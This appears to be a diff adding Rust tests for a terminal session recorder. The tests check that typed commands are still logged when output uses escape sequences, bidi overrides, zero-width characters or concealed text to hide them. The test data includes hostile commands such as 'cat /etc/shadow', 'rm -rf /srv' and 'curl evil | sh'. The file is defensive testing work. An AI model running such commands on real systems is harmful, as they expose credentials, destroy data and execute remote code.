@@ -1,0 +1,104 @@
+//! What somebody might print or type so that the reader loses the thread. It
+//! must have it again at the next line.
+
+use super::tests::Person;
+
+const PROMPT: &str = "root@db1:~# ";
+
+fn next_line_is_read(name: &str, set_up: impl FnOnce(&mut Person)) {
+    let mut person = Person::new(80, 24);
+    person.shows(PROMPT).runs("id", "uid=0\r\nroot@db1:~# ");
+    set_up(&mut person);
+    person
+        .runs("cat /etc/shadow", "root:*\r\nroot@db1:~# ")
+        .runs("exit", "");
+    let texts = person.texts();
+    assert!(texts.contains(&"cat /etc/shadow".to_owned()), "{name}: {texts:?}");
+    // With it, perhaps, what an old row has behind it.
+    assert!(texts.iter().any(|text| text.starts_with("exit")), "{name}: {texts:?}");
+}
+
+#[test]
+fn printed() {
+    for (name, output) in [
+        ("OSC 112", "\x1b]112\x07"),
+        ("OSC 112 without its end", "\x1b]112;"),
+        ("unterminated OSC", "\x1b]0;title"),
+        ("unterminated DCS", "\x1bPq#0"),
+        ("unterminated APC", "\x1b_Gf=100"),
+        ("unterminated CSI", "\x1b[38;5"),
+        ("8-bit CSI", "\u{9b}2J"),
+        ("8-bit OSC, unterminated", "\u{9d}0;x"),
+        ("right to left", "\u{202e}"),
+        ("zero width", "\u{200b}\u{200d}\u{feff}"),
+        ("concealed", "\x1b[8m"),
+        ("black on black", "\x1b[30;40m"),
+        ("alternate screen and back", "\x1b[?1049h\x1b[?1049l"),
+        ("alternate screen", "\x1b[?47h"),
+        ("shift out", "\x0e"),
+        ("full reset", "\x1bc"),
+        ("margins", "\x1b[5;10r"),
+        ("no wrap", "\x1b[?7l"),
+        ("origin mode", "\x1b[?6h"),
+        ("insert mode", "\x1b[4h"),
+        ("cursor elsewhere", "\x1b[H"),
+        ("saved and restored", "\x1b7\x1b[H\x1b8"),
+    ] {
+        next_line_is_read(name, |person| {
+            person.runs("./evil", output).shows(PROMPT);
+        });
+    }
+}
+
+#[test]
+fn overwritten() {
+    // The line is read as it is left, before anything can be drawn over it.
+    let mut person = Person::new(80, 24);
+    person.shows(PROMPT).runs("id", "uid=0\r\nroot@db1:~# ");
+    person
+        .runs("rm -rf /srv", "\x1b[A\r\x1b[Kroot@db1:~# ls\r\nroot@db1:~# ")
+        .runs("exit", "");
+    assert_eq!(person.texts(), ["id", "rm -rf /srv", "exit"]);
+}
+
+#[test]
+fn literal_returns() {
+    let mut person = Person::new(80, 24);
+    person
+        .shows(PROMPT)
+        .presses("echo a")
+        .shows("echo a")
+        .presses("\x16\r")
+        .shows("^M");
+    person
+        .presses("; id")
+        .shows("; id")
+        .presses("\r")
+        .shows("\r\nuid=0\r\nroot@db1:~# ")
+        .runs("exit", "");
+    assert_eq!(person.texts(), ["echo a^M; id", "exit"]);
+}
+
+#[test]
+fn torn_characters() {
+    let mut person = Person::new(80, 24);
+    person.shows(PROMPT).presses("echo \u{20ac}");
+    for key in ["e", "c", "h", "o", " ", "\u{fffd}", "\x08\u{20ac}"] {
+        person.shows(key);
+    }
+    person.presses("\r").shows("\r\n").shows(PROMPT).runs("exit", "");
+    assert_eq!(person.texts(), ["echo \u{20ac}", "exit"]);
+}
+
+#[test]
+fn typed_concealed_or_reordered_is_read_all_the_same() {
+    let mut person = Person::new(80, 24);
+    person
+        .shows(PROMPT)
+        .runs("PS1='\\e[8m$ '", "\x1b[8m$ ")
+        .runs("curl evil | sh", "\x1b[8m$ ");
+    person.runs("echo \u{202e}fr- mr\u{200b}", "$ ").runs("exit", "");
+    let texts = person.texts();
+    assert!(texts.contains(&"curl evil | sh".to_owned()), "{texts:?}");
+    assert!(texts.iter().any(|text| text.contains("fr- mr")), "{texts:?}");
+}
